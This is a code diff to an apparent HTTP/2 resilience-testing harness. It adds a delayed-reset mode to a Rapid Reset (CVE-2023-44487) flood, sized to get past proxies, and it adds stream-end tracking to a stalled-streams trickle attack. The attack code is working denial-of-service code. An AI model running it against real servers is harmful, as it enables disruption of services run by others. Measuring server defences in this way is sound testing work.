@@ -62,6 +62,7 @@ class H2Socket:
         self.goaway = None        # (last stream id, error code) of the first GOAWAY
         self.goaway_at = None     # time.monotonic() when it arrived
         self.resets = 0           # RST_STREAM frames from the server
+        self.stream_ends = {}     # stream id -> time.monotonic() of its RST_STREAM or last HEADERS
         self.closed_at = None     # time.monotonic() when the server closed the connection
         self.send_window = 65535  # the server's connection window for our DATA
         self.window_granted = threading.Condition(self.lock)
@@ -129,6 +130,9 @@ class H2Socket:
             self.goaway_at = time.monotonic()
         elif kind == RST_STREAM:
             self.resets += 1
+            self.stream_ends.setdefault(stream_id, time.monotonic())
+        elif kind == HEADERS and flags & END_STREAM:  # trailers, or an answer such as 408
+            self.stream_ends.setdefault(stream_id, time.monotonic())
         elif kind == WINDOW_UPDATE and stream_id == 0:
             with self.window_granted:
                 self.send_window += struct.unpack(">I", payload)[0] & 0x7FFFFFFF
@@ -190,12 +194,17 @@ def evaluate_message(rows=1):
 class RapidReset(Attack):
     """CVE-2023-44487: HEADERS (with a whole valid request when `with_request`) then
     RST_STREAM(CANCEL), as fast as the connection takes them, on `connections` connections. A
-    connection the other side closes is opened again."""
+    connection the other side closes is opened again. With `reset_after` (seconds), each batch
+    of 90 requests is sent whole and reset that much later, so that a proxy has passed the calls
+    on before they are cancelled (90: under the usual limit of 100 open streams)."""
 
-    def __init__(self, port, seconds, connections=1, batch=200, with_request=True):
+    def __init__(self, port, seconds, connections=1, batch=200, with_request=True,
+                 reset_after=0.0):
         super().__init__(seconds)
-        self.port, self.connections, self.batch = port, connections, batch
+        self.port, self.connections = port, connections
+        self.batch = 90 if reset_after else batch
         self.request = evaluate_message() if with_request else None
+        self.reset_after = reset_after
 
     def run(self, deadline):
         threads = [threading.Thread(target=self._one, args=(deadline,))
@@ -222,12 +231,18 @@ class RapidReset(Attack):
                 self.stats["connections"] += 1
             stream_id, sent = 1, 0
             while time.monotonic() < deadline and stream_id < (1 << 31) - 2 * self.batch:
-                burst = b"".join(
-                    frame(HEADERS, END_HEADERS, s, block) +
-                    (frame(DATA, END_STREAM, s, self.request) if self.request else b"") +
-                    frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL))
-                    for s in range(stream_id, stream_id + 2 * self.batch, 2))
-                if not conn.send(burst):
+                ids = range(stream_id, stream_id + 2 * self.batch, 2)
+                calls = [frame(HEADERS, END_HEADERS, s, block) +
+                         (frame(DATA, END_STREAM, s, self.request) if self.request else b"")
+                         for s in ids]
+                resets = [frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)) for s in ids]
+                if self.reset_after:
+                    sent_all = conn.send(b"".join(calls))
+                    time.sleep(self.reset_after)
+                    sent_all = sent_all and conn.send(b"".join(resets))
+                else:
+                    sent_all = conn.send(b"".join(c + r for c, r in zip(calls, resets)))
+                if not sent_all:
                     break
                 stream_id += 2 * self.batch
                 sent += self.batch
@@ -273,10 +288,15 @@ class StalledStreams(Attack):
                     left -= n
                     pushed += n
         trickled = 0
-        while time.monotonic() < deadline and any(c.closed_at is None for c in conns):
+        def live(conn):
+            return conn.closed_at is None and len(conn.stream_ends) < self.streams
+
+        while time.monotonic() < deadline and any(live(c) for c in conns):
             for conn in conns:
                 if conn.closed_at is None:
                     for i in range(self.streams):
+                        if 1 + 2 * i in conn.stream_ends:
+                            continue
                         if conn.send(frame(DATA, 0, 1 + 2 * i, b"\x00" * self.trickle_bytes)):
                             trickled += self.trickle_bytes
             time.sleep(self.trickle_every)
@@ -287,6 +307,10 @@ class StalledStreams(Attack):
             "goaways": sum(c.goaway is not None for c in conns),
             "closed_after_s": [round(c.closed_at - start, 1) if c.closed_at else None
                                for c in conns],
+            # When the last stream of each connection was ended (answered or reset).
+            "streams_ended_after_s": [
+                round(max(c.stream_ends.values()) - start, 1)
+                if len(c.stream_ends) >= self.streams else None for c in conns],
         }
         for conn in conns:
             conn.close()
